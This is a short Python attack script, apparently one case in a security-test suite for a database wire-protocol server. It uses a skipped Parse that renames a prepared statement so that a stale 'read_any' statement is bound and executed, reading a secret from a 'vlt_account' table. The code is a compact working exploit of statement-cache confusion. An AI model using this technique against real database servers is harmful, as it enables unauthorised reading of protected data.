"""Lets a Parse that renames a statement be skipped, then runs the old one."""

from attacks.frames import SYNC, ask, bind, close, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, parse(b"SELECT read_any($1)", b"s"), SYNC)
        again = (close(b"S", b"s"), parse(b"SELECT id::text FROM customer WHERE name = $1", b"s"))
        ask(client, parse(b"SELECT nothing"), *again, SYNC)
        return ask(client, bind(b"s", values=[b"SELECT secret FROM vlt_account"]), execute(), SYNC)
